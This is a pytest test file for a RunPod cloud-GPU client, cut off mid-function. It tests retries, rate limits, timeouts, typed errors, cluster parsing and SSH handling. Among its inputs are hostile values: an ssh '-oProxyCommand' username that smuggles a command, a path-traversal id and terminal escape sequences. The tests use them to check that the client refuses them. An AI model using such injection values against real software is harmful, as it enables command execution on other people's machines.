"""The v2 client against the real local RunPod server: retries, no duplicate pods, typed
errors."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import pytest

from podcycle.runpod.client import RunPodClient
from podcycle.runpod.errors import (
    ApiError,
    BadRequest,
    Conflict,
    Forbidden,
    NotFound,
    RateLimited,
    ServerError,
    Unauthorized,
)
from podcycle.signals import suspended
from tests.conftest import eventually


@contextmanager
def one_connection(handle: Callable[[socket.socket], None]) -> Iterator[str]:
    """A loopback server that takes one connection and hands it to `handle` in a thread
    (an answer sent a byte at a time, raw bytes as a real API sends them): its URL."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)

    def serve() -> None:
        conn, _ = server.accept()
        with conn:
            handle(conn)

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.getsockname()[1]}"
    finally:
        server.close()


def create_body(name: str) -> dict:
    return {"name": name, "templateId": "tpl-local-chessbot",
            "gpu": {"id": "NVIDIA RTX A5000", "count": 1}, "cloud": "SECURE",
            "env": {"START_INFERENCE_API": "0"}}


def count(requests: list[dict], method: str, path: str) -> int:
    return sum(1 for r in requests if r["method"] == method and r["path"] == path)


def test_429_with_retry_after_is_retried_and_succeeds(runpod) -> None:
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="GET", path="/v2/templates", status=429, times=2, retry_after=1)
    client = runpod.client()
    started = time.monotonic()
    templates = client.list_templates()
    waited = time.monotonic() - started
    assert templates[0]["name"] == "chess-bot-training"
    log = runpod.requests()
    assert [r["status"] for r in log if r["path"] == "/v2/templates"] == [429, 429, 200]
    assert waited >= 1.9, "Retry-After: 1 must be honoured on each retry"


def test_a_long_rate_limit_wait_is_said_a_short_one_is_not(runpod) -> None:
    """Four 60 s waits on a 429 were four minutes of silence (an audit with an erratic API
    took it for a hang). A wait of NOTICE_WAIT seconds or more is said first."""
    notes: list[str] = []
    waits: list[float] = []
    client = runpod.client(sleep=waits.append, notice=notes.append)
    runpod.fault(method="GET", path="/v2/templates", status=429, times=1, retry_after=30)
    client.list_templates()
    runpod.fault(method="GET", path="/v2/templates", status=429, times=1, retry_after=1)
    client.list_templates()
    assert waits == [30.0, 1.0]
    assert notes == ["RunPod is rate limiting (429): waiting 30s before GET /v2/templates "
                     "again (try 2 of 5)"]


def test_a_rate_limit_of_an_hour_is_said_at_once_not_retried(runpod) -> None:
    """The spec's limits run per minute, hour and day. Before, a Retry-After of an hour was
    cut to 60 s and retried four times: four minutes of requests that could not pass, then
    an error that said to wait a minute. Now it is one error that says when to come back."""
    waits: list[float] = []
    client = runpod.client(sleep=waits.append)
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="GET", path="/v2/templates", status=429, times=5, retry_after=3600)
    with pytest.raises(RateLimited) as limited:
        client.list_templates()
    assert waits == [] and count(runpod.requests(), "GET", "/v2/templates") == 1
    assert "asks to wait 1.0 h before GET /v2/templates again" in limited.value.message
    assert "run the command again after 20" in limited.value.remedy
    runpod.clear_faults()
    runpod.fault(method="GET", path="/v2/templates", status=429, times=1, retry_after=1e300)
    with pytest.raises(RateLimited) as absurd:  # an OverflowError once, past any calendar
        client.list_templates()
    assert "past any calendar" in absurd.value.remedy
    runpod.clear_faults()


@pytest.mark.slow
def test_429_is_retried_even_for_create(runpod) -> None:
    runpod.fault(method="POST", path="/v2/pods", status=429, times=1, retry_after=1)
    pod = runpod.client().create_pod(create_body("rl-create"))
    assert pod.name == "rl-create"
    runpod.client().delete_pod(pod.id)


@pytest.mark.slow
def test_5xx_is_retried_for_get_but_not_for_create(runpod) -> None:
    runpod.fault(method="GET", path="/v2/pods", status=503, times=1)
    assert isinstance(runpod.client().list_pods(), list)
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=500, times=1)
    with pytest.raises(ServerError):
        runpod.client().create_pod(create_body("no-blind-retry"))
    assert count(runpod.requests(), "POST", "/v2/pods") == 1


@pytest.mark.slow
@pytest.mark.parametrize("status", [302, 307])
def test_a_redirect_is_an_error_never_a_second_create(runpod, status: int) -> None:
    """RunPod's API never redirects. requests followed one: a 307 to a create sent the body,
    and the key, a second time (two pods), and a 302 turned it into a GET."""
    runpod.admin("DELETE", "/_local/requests")
    runpod.fault(method="POST", path="/v2/pods", status=status, text="", times=1,
                 headers={"Location": "/v2/pods?again=1"})
    with pytest.raises(ApiError) as redirected:
        runpod.client().create_pod(create_body("redirected"))
    assert redirected.value.message == (f"RunPod answered POST /v2/pods with a redirect "
                                        f"({status} to /v2/pods?again=1), which is not followed")
    assert "RUNPOD_API_BASE_URL" in redirected.value.remedy
    assert count(runpod.requests(), "POST", "/v2/pods") == 1
    assert not [p for p in runpod.client().list_pods() if p.name == "redirected"]


@pytest.mark.parametrize(("text", "said"), [
    ("", "RunPod answered GET /v2/pods without a list of pods"),
    ("[]", "RunPod answered GET /v2/pods without a list of pods"),
    ('{"pods": null}', "RunPod answered GET /v2/pods without a list of pods"),
    ('{"pods": [null]}', "RunPod answered GET /v2/pods without a list of pods"),
    ('{"pods": [], "x": NaN}', "RunPod answered GET /v2/pods with something that is not JSON"),
])
def test_a_listing_of_the_wrong_shape_is_one_error(runpod, text: str, said: str) -> None:
    """A 200 whose body is not the API's listing (empty, a bare list, nulls; NaN, which
    JSON does not have) was a TypeError, KeyError or OverflowError traceback in every task
    that lists (pod.list, gpu.search, template.list, volume.list, pod.leftovers, api.doctor).
    Every listing is checked in one place."""
    runpod.fault(method="GET", path="/v2/pods", status=200, text=text, times=1)
    with pytest.raises(ApiError) as wrong:
        runpod.client().list_pods()
    assert wrong.value.message.startswith(said)
    assert "RUNPOD_API_BASE_URL" in wrong.value.remedy


def test_a_request_is_in_the_log_from_its_arrival(runpod) -> None:
    # A test that sees what a request changed (a pod EXITED by its watchdog's stop) must find
    # the request in the log: it is logged as it arrives, its status None until it is
    # answered. Logged only with its answer, the watchdog's stop once lagged its pod's EXITED.
    import http.client

    path = "/v2/pods/in-flight-probe"
    runpod.fault(method="GET", path=path, delay=30, times=1)  # answered long after this test
    host, port = runpod.url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    try:
        connection.request("GET", path, headers={"Authorization": f"Bearer {runpod.key}"})
        logged = eventually(lambda: [r for r in runpod.requests() if r["path"] == path],
                            what=f"GET {path} in the request log")
        assert logged == [{"method": "GET", "path": path, "status": None}]
    finally:
        connection.close()


def test_a_request_with_a_bad_content_length_is_answered_400_and_logged(runpod) -> None:
    import http.client

    host, port = runpod.url.removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        connection.putrequest("POST", "/v2/pods")
        connection.putheader("Authorization", f"Bearer {runpod.key}")
        connection.putheader("Content-Length", "abc")
        connection.endheaders()
        answer = connection.getresponse()
        assert answer.status == 400 and b"Content-Length is not a number" in answer.read()
    finally:
        connection.close()
    assert runpod.requests()[-1] == {"method": "POST", "path": "/v2/pods", "status": 400}


@pytest.mark.slow
def test_create_that_times_out_never_makes_two_pods(runpod) -> None:
    # The server answers the create only after 3 s; the client gives up after 1 s. The pod
    # does get created: the client must find it by name instead of creating a second one.
    runpod.fault(method="POST", path="/v2/pods", delay=3, times=1)
    runpod.admin("DELETE", "/_local/requests")
    client = runpod.client(create_timeout=1.0, create_settle=15.0)
    pod = client.create_pod(create_body("slow-create"))
    # The server answers the slow create late; wait for that answer (in its request log).
    eventually(lambda: any(r["method"] == "POST" and r["path"] == "/v2/pods"
                           and r.get("status") for r in runpod.requests()),
               what="the slow create to be answered")
    same_name = client.find_pods_by_name("slow-create")
    assert len(same_name) == 1 and same_name[0].id == pod.id
    assert count(runpod.requests(), "POST", "/v2/pods") == 1
    client.delete_pod(pod.id)


def test_create_on_a_dead_port_is_unreachable_fast() -> None:
    from podcycle.local.pods import free_port
    from podcycle.runpod.errors import Unreachable

    client = RunPodClient(f"http://127.0.0.1:{free_port()}", "k" * 20, max_retries=1,
                          sleep=lambda s: None)
    with pytest.raises(Unreachable, match="cannot reach") as never_sent:
        client.create_pod(create_body("nowhere"))
    assert not never_sent.value.may_have_made  # nothing left: no create is outstanding


def test_an_api_that_does_not_answer_in_time_is_named_a_timeout(runpod) -> None:
    """An API that takes the request and then says nothing was `cannot reach the RunPod
    API (... ReadTimeout)`, or `ConnectionError` when the body stopped: it was reached."""
    from podcycle.runpod.errors import Unreachable

    runpod.fault(method="GET", path="/v2/pods", delay=3, times=1)
    client = runpod.client(timeout=1.0, max_retries=0)
    with pytest.raises(Unreachable) as late:
        client.list_pods()
    assert late.value.message == (f"the RunPod API at {runpod.url} did not answer GET "
                                  "/v2/pods within 1s (a timeout)")
    assert "try again" in late.value.remedy

    # Retried, each wait is said: a stop whose action never answered was minutes of silence.
    notes: list[str] = []
    runpod.fault(method="GET", path="/v2/pods", delay=3, times=1)
    patient = runpod.client(timeout=1.0, max_retries=1, sleep=lambda s: None,
                            notice=notes.append)
    assert isinstance(patient.list_pods(), list)
    assert notes == ["RunPod did not answer GET /v2/pods within 1s: trying again (try 2 of 2)"]

    # Headers, then a body that stops coming (requests raises a ConnectionError).
    done = threading.Event()

    def answer_and_stall(conn: socket.socket) -> None:
        conn.recv(65536)
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 100\r\n\r\n[")
        done.wait(10)

    with one_connection(answer_and_stall) as url:
        try:
            with pytest.raises(Unreachable) as stalled:
                RunPodClient(url, "k" * 20, timeout=1.0, max_retries=0).list_pods()
        finally:
            done.set()
    assert stalled.value.message == (f"the RunPod API at {url} did not answer GET /v2/pods "
                                     "within 1s (a timeout)")


@pytest.mark.slow
def test_typed_errors(runpod) -> None:
    with pytest.raises(Unauthorized) as err:
        RunPodClient(runpod.url, "wrong-key-000000").list_templates()
    assert "API Keys" in err.value.remedy
    runpod.add_key("templates-only-key-1", ["templates"])
    limited = RunPodClient(runpod.url, "templates-only-key-1")
    with pytest.raises(Forbidden) as denied:
        limited.list_gpu_types()
    assert denied.value.scope == "catalog"
    with pytest.raises(NotFound):
        runpod.client().get_pod("nope")
    pod = runpod.client().create_pod(create_body("typed"))
    client = runpod.client()
    eventually(lambda: client.get_pod(pod.id).status == "RUNNING", timeout=30,
               what="the pod to run")
    client.pod_action(pod.id, "stop")
    with pytest.raises(Conflict):
        client.pod_action(pod.id, "stop")
    client.delete_pod(pod.id)


# -- clusters ------------------------------------------------------------------------------
CLUSTER_EXAMPLE = {  # GET /v2/clusters/{id} per the spec's Cluster schema
    "id": "cluster_abc123", "name": "my-training-cluster", "type": "TRAINING",
    "compute": {"gpuTypeId": "NVIDIA H100 80GB HBM3", "gpuCountPerPod": 8, "podCount": 4},
    "dataCenterId": "US-TX-3", "template": "tpl_abc",
    "pods": {"total": 4, "byStatus": {"RUNNING": 3, "PROVISIONING": 1}},
    "network": {"cidr": "10.65.0.0/16", "vxlanId": 42},
    "primary": {"podId": "pod_node0", "status": "RUNNING", "sshEndpoint": "1.2.3.4:22001"},
    "createdAt": "2026-06-29T20:00:00Z"}


def member(pod_id: str, rank: int | None, status: str = "RUNNING") -> dict:
    return {"id": pod_id, "name": f"n{rank}", "status": status, "cost": 2.5,
            "gpu": {"id": "NVIDIA H100 80GB HBM3", "count": 8},
            "ssh": {"direct": {"host": "1.2.3.4", "port": 22001 + (rank or 0)}},
            "cluster": {"id": "cluster_abc123", "rank": rank, "ip": f"10.65.0.{(rank or 0) + 2}"}}


@pytest.mark.parametrize(("fields", "started", "password"), [
    ({"env": {"JUPYTER_PASSWORD": "x"}}, True, True),  # the spec's startJupyter, as GET shows
    ({"env": {"JUPYTER_PASSWORD": "x", "START_JUPYTER": "0"}}, False, True),
    ({"env": {"START_JUPYTER": "1"}}, True, False),
    ({"startJupyter": True}, True, False),
    ({"env": {}}, False, False),
])
def test_a_pod_asked_for_jupyter_is_told_by_its_jupyter_password(
        fields: dict, started: bool, password: bool) -> None:
    """startJupyter is never returned by GET (the spec): RunPod injects JUPYTER_PASSWORD."""
    from podcycle.runpod.models import Pod

    pod = Pod.from_api({"id": "p1", "status": "RUNNING", **fields})
    assert (pod.jupyter_started, pod.jupyter_password) == (started, password)
    from podcycle.pods import jupyter_login_url

    login = jupyter_login_url(pod, "https://p1-8888.proxy.runpod.net/")
    assert login == ("https://p1-8888.proxy.runpod.net/lab?token=x" if password else None)


@pytest.mark.slow
def test_the_local_runpod_gives_start_jupyter_a_password_as_the_spec_says(runpod) -> None:
    previous = runpod.admin("POST", "/_local/settings", {})
    runpod.admin("POST", "/_local/settings", {"provision_delay": 3600})  # no processes
    client = runpod.client()
    made = []
    try:
        for name, env in (("jupyter-made", {}), ("jupyter-own", {"JUPYTER_PASSWORD": "mine"})):
            body = create_body(name)
            body["env"].update(env)
            made.append(client.create_pod({**body, "startJupyter": True}))
        generated, own = (client.get_pod(p.id) for p in made)
        assert generated.jupyter_password and len(generated.raw["env"]["JUPYTER_PASSWORD"]) > 8
        assert own.raw["env"]["JUPYTER_PASSWORD"] == "mine"
        plain = client.create_pod(create_body("no-jupyter"))
        made.append(plain)
        assert not client.get_pod(plain.id).jupyter_password
    finally:
        runpod.admin("POST", "/_local/settings",
                     {"provision_delay": previous.get("provision_delay", 0.2)})
        for pod in made:
            client.delete_pod(pod.id)


def test_cluster_record_is_read_in_one_place() -> None:
    from podcycle.runpod.models import Cluster, Pod, PodStatus

    cluster = Cluster.from_api(CLUSTER_EXAMPLE)
    assert (cluster.id, cluster.name, cluster.type) == ("cluster_abc123", "my-training-cluster",
                                                        "TRAINING")
    assert (cluster.gpu_type_id, cluster.gpu_count_per_pod, cluster.pod_count) == (
        "NVIDIA H100 80GB HBM3", 8, 4)
    assert cluster.total_gpus == 32 and cluster.data_center_id == "US-TX-3"
    assert cluster.pods_total == 4 and cluster.pods_by_status["PROVISIONING"] == 1
    assert cluster.primary_pod_id == "pod_node0" and cluster.primary_status is PodStatus.RUNNING
    assert cluster.primary_ssh == "1.2.3.4:22001" and cluster.created_at.startswith("2026-06")
    assert cluster.pods == [] and not cluster.ready  # the summary is not the members
    pods = [Pod.from_api(member("pod_node1", 1)), Pod.from_api(member("pod_node0", 0))]
    assert (pods[0].cluster_id, pods[0].node_rank, pods[0].cluster_ip) == (
        "cluster_abc123", 1, "10.65.0.3")
    assert not Cluster.from_api({**CLUSTER_EXAMPLE, "compute": {
        **CLUSTER_EXAMPLE["compute"], "podCount": 2}}).with_pods(pods[:1]).ready
    two = Cluster.from_api({**CLUSTER_EXAMPLE, "compute": {
        **CLUSTER_EXAMPLE["compute"], "podCount": 2}}).with_pods(pods)
    assert [p.node_rank for p in two.pods] == [0, 1] and two.primary.id == "pod_node0"
    assert two.ready and two.cost_per_hour == 5.0
    assert two.to_json()["members"][0]["id"] == "pod_node0"
    unranked = Pod.from_api(member("pod_x", None, "PROVISIONING"))
    assert unranked.node_rank is None and not two.with_pods([unranked, pods[0]]).ready
    assert Pod.from_api({"id": "solo", "status": "RUNNING"}).cluster_id is None


@pytest.mark.parametrize("record_id", ["../../../tmp/pwn", "pod\x1b]0;pwned\x07\r\nx", ""])
def test_an_id_from_the_api_is_checked_as_one_from_the_user(record_id: str) -> None:
    """An id this tool refuses from a user (a path, a line break that forges a line of
    output) was recorded, shown and offered back in `inv pod.stop ../../..`, which it then
    refused. It is refused as the API's answer, shown escaped."""
    from podcycle.runpod.models import Cluster, Pod

    for record, what in ((Pod, "pod"), (Cluster, "cluster")):
        with pytest.raises(ApiError) as refused:
            record.from_api({"id": record_id, "name": "x"})
        assert refused.value.message.startswith(f"RunPod answered with a {what} id this tool "
                                                "cannot use: ")
        assert "\n" not in refused.value.message and "\x1b" not in refused.value.message
        assert "RunPod console" in refused.value.remedy


def test_records_of_the_wrong_shape_are_read_without_a_traceback() -> None:
    """RunPod's JSON as an erratic API sends it: `gpu.count: "two"`, a cost of NaN, ports as
    a string, an SSH port that is not a number; GPU types with a memory of "24" or a null
    price table. Each was a ValueError or TypeError traceback in pod.list, pod.status,
    pod.stop, pod.leftovers or gpu.search."""
    from podcycle.catalog import offers
    from podcycle.runpod.models import Pod

    pod = Pod.from_api({"id": "p1", "gpu": {"id": "A", "count": "two"}, "cost": float("nan"),
                        "ports": "22/tcp", "ssh": {"direct": {"host": "h", "port": "x"}},
                        "runtime": {"ports": [{"private": "22", "public": "x"}]}})
    assert (pod.gpu_count, pod.cost_per_hour, pod.ports) == (1, 0.0, ())
    assert pod.ssh_direct.port == 22 and pod.runtime_ports[0].public is None
    good = {"id": "g", "name": "G", "memory": 24, "secure": True, "price": {"secure": 0.5},
            "maxCount": {"secure": 8}, "availability": "HIGH"}
    found = offers([{"id": "m", "memory": "24"}, {"id": "n", "memory": 24, "secure": True,
                                                 "price": None, "maxCount": None},
                    {"memory": 24}, {**good, "price": {"secure": float("inf")}}, good])
    assert [(o.id, o.price_per_hour) for o in found] == [("g", 0.5)]


HOSTILE_SSH = [
    ({"host": "x", "port": 22, "username": "-oProxyCommand=touch /tmp/PWNED #"},
     "SSH user name '-oProxyCommand=touch /tmp/PWNED #' is not a user name"),
    ({"host": "-oProxyCommand=x", "port": 22}, "SSH host '-oProxyCommand=x' is not a host"),
    ({"host": "h\x1b]0;pwn\x07", "port": 22}, "SSH host 'h\\x1b]0;pwn\\x07' is not"),
    ({"host": "h", "port": 10 ** 30}, f"SSH port '{10 ** 30}' is not a port number"),
]


@pytest.mark.parametrize("ssh, said", HOSTILE_SSH)
def test_an_ssh_endpoint_ssh_would_misread_is_refused_before_a_command_is_built(
        ssh: dict, said: str, tmp_path) -> None:
    """The API's SSH user name and host go onto ssh's command line (pod.ssh, the cycle's
    rsync and control master): a user name "-oProxyCommand=touch /tmp/PWNED #" was read by
    ssh as an option and ran the command on this machine. A port of 10**30 was paramiko's
    OverflowError traceback. The record is still listed; no command is built from it."""
    from podcycle import pods, remote
    from podcycle.config import Settings
    from podcycle.runpod.models import Pod

    pod = Pod.from_api({"id": "p1", "status": "RUNNING", "ssh": {"direct": ssh}})
    assert pods.summary_row(pod)[0] == "p1"
    for build in (lambda: pods.ssh_command(pod, None),
                  lambda: pods.ssh_argv(pod, None, tmp_path / "known_hosts"),
                  lambda: remote.endpoint_for(pod, Settings(), tmp_path / "key")):
        with pytest.raises(ApiError) as refused:
            build()
        assert refused.value.message == (f"RunPod answered with an {said}"
                                          + refused.value.message.split(said, 1)[1])
        assert refused.value.message.endswith("this tool will not pass it to ssh")
        assert "\x1b" not in refused.value.message and "\n" not in refused.value.message


def test_pod_ssh_refuses_a_known_hosts_that_is_no_file(tmp_path) -> None:
    """A FIFO where pod.ssh keeps the pod's host key made ssh wait for ever; a folder, a broken
    link or a loop there silently pinned no host key."""
    import os

    from podcycle import pods
    from podcycle.errors import PodCycleError
    from podcycle.runpod.models import Pod

    pod = Pod.from_api({"id": "p1", "status": "RUNNING",
                        "ssh": {"direct": {"host": "127.0.0.1", "port": 2222}}})
    fifo, folder, loop = tmp_path / "fifo", tmp_path / "folder", tmp_path / "loop"
    os.mkfifo(fifo)
    folder.mkdir()
    loop.symlink_to(loop)
    for known_hosts in (fifo, folder, loop):
        with pytest.raises(PodCycleError) as refused:
            pods.ssh_argv(pod, None, known_hosts)
        assert refused.value.message.startswith(f"pod.ssh's known_hosts {known_hosts} is not "
                                                "a file"), refused.value.message
        assert refused.value.remedy.startswith(f"remove it (rm -r {known_hosts})")
    assert "UserKnownHostsFile" in " ".join(pods.ssh_argv(pod, None, tmp_path / "kh"))


# ssh's own words (OpenSSH 9) when it could not connect to 127.0.0.1:2222 or log in there.
SSH_SAID = {
    "key": "root@127.0.0.1: Permission denied (publickey).\n",
    "refused": "ssh: connect to host 127.0.0.1 port 2222: Connection refused\n",
    "timeout": "ssh: connect to host 127.0.0.1 port 2222: Connection timed out\n",
    "network": "ssh: connect to host 127.0.0.1 port 2222: No route to host\n",
    "dns": "ssh: Could not resolve hostname 127.0.0.1: Name or service not known\n",
    # At pod.ssh's LogLevel=ERROR, the one line it gives, naming no host (second read: the
    # "Connection reset by HOST port N" line this test had is not printed at that level).
    "closed": "kex_exchange_identification: Connection closed by remote host\n",
    # Something other than an sshd answers there (a wrong RUNPOD_SSH_PORT).
    "notssh": "kex_exchange_identification: banner line contains invalid characters\n",
}


def test_pod_ssh_says_why_ssh_could_not_reach_the_pod_or_log_in(tmp_path) -> None:
    """pod.ssh was an exec of ssh: a refused key, a changed host key or an sshd that was down
    showed only ssh's own line ("Permission denied (publickey)"), with nothing on why a pod
    would refuse a key or what to do. Each now gets its reason and remedy, exit 255 kept; a
    command's own 255, and words that name another host (an ssh run on the pod), get none."""
    from podcycle import pods
    from podcycle.runpod.models import Pod

    pod = Pod.from_api({"id": "p1", "status": "RUNNING",
                        "ssh": {"direct": {"host": "127.0.0.1", "port": 2222}}})
    kh = tmp_path / "known_hosts" / "p1"
    where = {"user": "root", "host": "127.0.0.1", "port": 2222, "known_hosts": kh}

    def said(kind_said: str, code: int = 255, **kw):
        return pods.ssh_failure(pod, code, kind_said, **{"key": tmp_path / "k", **where, **kw})

    refused = said(SSH_SAID["key"])
    assert refused.exit_code == 255 and refused.message == (
        f"pod p1 refused the key {tmp_path / 'k'}: a pod lets in only the public keys "
        "registered on the account when it was made (and its template's AUTHORIZED_KEYS)")
    assert refused.remedy.startswith("give pod.ssh the key the pod was made with "
                                     "(RUNPOD_SSH_KEY=PATH)")
    assert "the keys ssh offered" in said(SSH_SAID["key"], key=None).message
    changed = said(f"Offending ED25519 key in {kh}:1\nHost key verification failed.\n")
    assert changed.message == ("ssh refused pod p1: its host key is not the one pod.ssh kept "
                               f"when it first connected ({kh})")
    assert f"remove that file (rm {kh}) and run pod.ssh again" in changed.remedy
    reasons = {
        "refused": "nothing listens on root@127.0.0.1:2222: its sshd is down, or not up yet",
        "timeout": "root@127.0.0.1:2222 did not answer",
        "network": "this machine has no route to root@127.0.0.1:2222",
        "dns": "the host name of root@127.0.0.1:2222 does not resolve",
        "closed": "its sshd at root@127.0.0.1:2222 closed the connection before the login",
        "notssh": "what answers at root@127.0.0.1:2222 is no SSH server",
    }
    for kind, reason in reasons.items():
        failure = said(SSH_SAID[kind], status=lambda: "RUNNING")
        assert failure.message == f"ssh could not reach pod p1: {reason}", kind
        assert failure.exit_code == 255 and failure.remedy, kind
    # Not answered, and the pod is no longer RUNNING: that is the reason.
    gone = said(SSH_SAID["refused"], status=lambda: "EXITED")
    assert gone.message == "ssh could not reach pod p1: it is EXITED now"
    assert "inv pod.status p1" in gone.remedy
    # RUNPOD_SSH_HOST/PORT chose the address: they are named first.
    given = said(SSH_SAID["refused"], given="RUNPOD_SSH_HOST and RUNPOD_SSH_PORT are set")
    assert given.remedy.startswith("RUNPOD_SSH_HOST and RUNPOD_SSH_PORT are set: unset them")
    # Not ssh's failure: another exit code, no words, another host's words (an ssh on the
    # pod), another known_hosts file.
    assert said(SSH_SAID["key"], code=1) is None
    assert said("", code=255) is None
    for other in ("git@github.com: Permission denied (publickey).\n",
                  "ssh: connect to host 10.0.0.9 port 22: Connection refused\n",
                  "Offending key in /root/.ssh/known_hosts:3\nHost key verification failed.\n"):
        assert said(other) is None, other


SUSPENDING_SSH = """
import sys
from podcycle.pods import run_ssh
code, said = run_ssh(["sh", "-c", "echo oops >&2; kill -STOP $$; exit 3"])
print(code, said.strip(), flush=True)
"""


def test_pod_ssh_suspended_by_its_escape_gives_the_terminal_back(tmp_path) -> None:
    """ssh's ~^Z suspends ssh itself: pod.ssh, waiting on it, held the terminal with a
    stopped ssh that Ctrl-C and `fg` could not reach. pod.ssh now stops with it, as the
    shell's job, and continues it once continued. Here a stand-in for ssh stops itself."""
    import signal
    import subprocess
    import sys

    from tests.conftest import ROOT, eventually

    # Its own group in this session, as a shell's job: pod.ssh stops as a job does (SIGTSTP),
    # which the kernel discards in an orphaned group (no job control: nobody would fg it).
    proc = subprocess.Popen([sys.executable, "-c", SUSPENDING_SSH], cwd=ROOT, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, process_group=0)
    try:
        eventually(lambda: suspended(proc.pid), timeout=30,
                   what="pod.ssh to stop with its ssh")
        proc.send_signal(signal.SIGCONT)  # fg
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0 and out == "3 oops\n", (out, err)
    assert err == "oops\n"  # ssh's stderr passed on as it came


GROUP_STOPPED_SSH = """
import sys
from podcycle.pods import run_ssh
code, said = run_ssh([sys.executable, "-c", "import sys, time; print('ready', file=sys.stderr,"
                      " flush=True); time.sleep(3); sys.exit(3)"])
print(code, flush=True)
"""


@pytest.mark.parametrize("stop", ["SIGTSTP", "SIGSTOP"])
def test_pod_ssh_stopped_with_its_ssh_goes_on_once_continued(stop: str) -> None:
    """Ctrl-Z at a terminal (SIGTSTP to the job's group), or `kill -STOP -PGID` (a laptop's
    suspend script): pod.ssh and ssh stopped at once, and once continued pod.ssh found ssh's
    stop still to report and stopped again, so `fg` had to be given twice. It now stops
    once, and goes on to ssh's exit code. Its own group here, in this session, as a shell's
    job is: a stand-in for ssh says it runs, sleeps, ends with 3."""
    import os
    import signal
    import subprocess
    import sys

    from tests.conftest import ROOT, eventually

    proc = subprocess.Popen([sys.executable, "-c", GROUP_STOPPED_SSH], cwd=ROOT, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, process_group=0)
    stops = 0
    try:
        assert proc.stderr.readline() == "ready\n"  # the stand-in runs under pod.ssh
        os.killpg(proc.pid, getattr(signal, stop))
        eventually(lambda: suspended(proc.pid), timeout=30,
                   what="pod.ssh to stop with its ssh")
        stops += 1
        os.killpg(proc.pid, signal.SIGCONT)  # fg: the group goes on
        while proc.poll() is None:
            if suspended(proc.pid):  # stopped again: what `fg` met before
                stops += 1
                os.killpg(proc.pid, signal.SIGCONT)
            try:
                proc.wait(timeout=0.2)
            except subprocess.TimeoutExpired:
                pass
        out, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert stops == 1 and proc.returncode == 0, (stops, out, err)
    assert out == "3\n" and "Traceback" not in err, (out, err)


# pod.ssh (run_ssh) with a stand-in for ssh that says it runs (a line into a FIFO), then
# waits 30 s and ends with 3. Once it runs, a thread of pod.ssh's other than the main one
# takes a SIGTERM: the kernel hands a `kill` to any thread that does not block it.
SIGNALLED_OFF_THE_MAIN_THREAD = """
import os, signal, sys, threading
from podcycle.pods import run_ssh
fifo = sys.argv[1]
os.mkfifo(fifo)

def kill_this_thread_once_ssh_runs():
    with open(fifo) as ready:
        ready.readline()
    signal.pthread_kill(threading.get_ident(), signal.SIGTERM)

threading.Thread(target=kill_this_thread_once_ssh_runs, daemon=True).start()
code, said = run_ssh([sys.executable, "-c", "import sys, time\\n"
                      "with open(sys.argv[1], 'w') as ready: ready.write('runs\\\\n')\\n"
                      "time.sleep(30); sys.exit(3)", fifo])
print(code, flush=True)
"""


# pod.ssh (run_ssh) in a process that holds over a thousand descriptors (an IDE, a server
# that runs it): its wait's own descriptors are numbered past 1023.
MANY_DESCRIPTORS = """
import os, resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
held = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
from podcycle.pods import run_ssh
print(run_ssh(["sh", "-c", "sleep 1; exit 5"]), flush=True)  # alive at the first look
"""


def test_pod_ssh_waits_the_same_past_a_thousand_open_descriptors() -> None:
    """The wait's wakeup pipe, watched with select(), was out of its range past descriptor
    1023: a ValueError, and ssh left running unreaped (second read of the wait's rework)."""
    import subprocess
    import sys

    from tests.conftest import ROOT

    done = subprocess.run([sys.executable, "-c", MANY_DESCRIPTORS], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout == "(5, '')\n", (done.stdout, done.stderr)


def test_a_kill_that_lands_off_the_main_thread_still_reaches_ssh(tmp_path) -> None:
    """pod.ssh passes a `kill` on to ssh from a Python handler, which runs between the main
    thread's bytecodes; the main thread waited for ssh in a blocking waitpid, which a signal
    taken by another thread (or one that landed just before the wait began) does not end:
    the kill reached ssh only once ssh ended by itself. The wait now sleeps on Python's wakeup
    fd, so the handler runs at once: ssh ends by the SIGTERM (pod.ssh's code 143), not with
    its own 3 after 30 s."""
    import subprocess
    import sys

    from tests.conftest import ROOT

    done = subprocess.run([sys.executable, "-c", SIGNALLED_OFF_THE_MAIN_THREAD,
                           str(tmp_path / "ready")], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0 and done.stdout == "143\n", (done.stdout, done.stderr)


def test_pod_ssh_without_ssh_installed_says_so(monkeypatch) -> None:
    """No ssh on PATH: a FileNotFoundError traceback (before), then 'No such file or
    directory: ssh → check the path (and the flag or setting that names it)'."""
    from podcycle import pods
    from podcycle.errors import PodCycleError

    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(PodCycleError) as refused:
        pods.run_ssh(["ssh", "root@127.0.0.1"])
    assert refused.value.message == ("ssh is not installed here (not on PATH), and pod.ssh "
                                     "runs it")
    assert "openssh-client" in refused.value.remedy


def test_pod_ssh_goes_where_the_cycle_goes_and_gives_up_on_a_silent_sshd(tmp_path) -> None:
    """pod.ssh ignored RUNPOD_SSH_USER/HOST/PORT in silence, where the cycle's steps (and its
    refused-key remedy: "the gateway can get you in") use them; and with no ConnectTimeout a
    frozen sshd held it for ever without a word."""
    from podcycle import pods, remote
    from podcycle.config import Settings
    from podcycle.runpod.models import Pod

